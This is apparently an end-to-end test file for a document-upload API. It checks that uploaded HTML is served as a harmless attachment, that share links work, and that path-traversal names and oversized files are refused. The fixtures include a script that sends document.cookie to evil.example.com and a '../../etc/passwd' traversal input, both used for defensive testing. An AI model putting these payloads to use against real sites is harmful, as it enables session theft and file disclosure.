"""Documents over HTTP: an uploaded page does nothing to its readers, and a link needs no credential."""

import httpx

from tests.end_to_end.servers import Server

PAGE = b"<!DOCTYPE html><script>document.location = 'https://evil.example.com/' + document.cookie</script>"


def _stored(client: httpx.Client, name: str) -> str:
    form = {"file": (name, PAGE, "text/html")}
    return str(client.post("/v2/documents", files=form).raise_for_status().json()["documentId"])


def _expect_harmless(answer: httpx.Response) -> None:
    assert (answer.status_code, answer.content) == (200, PAGE)
    assert answer.headers["content-type"] == "text/html"
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-security-policy"] == "sandbox; default-src 'none'"
    assert "set-cookie" not in answer.headers


def test_a_page_is_served_as_a_file_that_browsers_do_not_show(server: Server) -> None:
    with server.session() as client:
        document_id = _stored(client, "page.html")
        answer = client.get(f"/v2/documents/{document_id}")

    _expect_harmless(answer)


def test_a_link_serves_it_likewise_without_a_credential(server: Server) -> None:
    with server.session() as client:
        document_id = _stored(client, "page.html")
        link = client.post(f"/v2/documents/{document_id}/links").raise_for_status().json()

    _expect_harmless(httpx.get(link["url"]))
    assert httpx.get(f"{server.http}/v2/documents/{document_id}").status_code == 401
    assert httpx.get(link["url"][:-2] + "AA").status_code == 404


def test_a_link_serves_a_part(server: Server) -> None:
    with server.session() as client:
        document_id = _stored(client, "page.html")
        link = client.post(f"/v2/documents/{document_id}/links").raise_for_status().json()

    part = httpx.get(link["url"], headers={"range": "bytes=-9"})

    assert (part.status_code, part.content) == (206, b"</script>")


def test_a_path_as_a_name_is_a_name(server: Server) -> None:
    form = {"file": ("../../etc/passwd", b"x", "text/plain")}
    with server.session() as client:
        created = client.post("/v2/documents", files=form).raise_for_status().json()
        refused = client.get("/v2/documents/..%2F..%2Fetc%2Fpasswd")

    assert created["metadata"]["fileName"] == "../../etc/passwd"
    assert refused.status_code == 400


def test_a_document_that_is_too_large_is_refused(server: Server) -> None:
    with server.session() as client:
        for size in (4000 * 1024 + 1, 5_000_000):
            answer = client.post("/v2/documents", files={"file": ("a", bytes(size))})

            assert answer.status_code == 413
            assert answer.json()["type"] == "urn:bpm:error:payload-too-large"
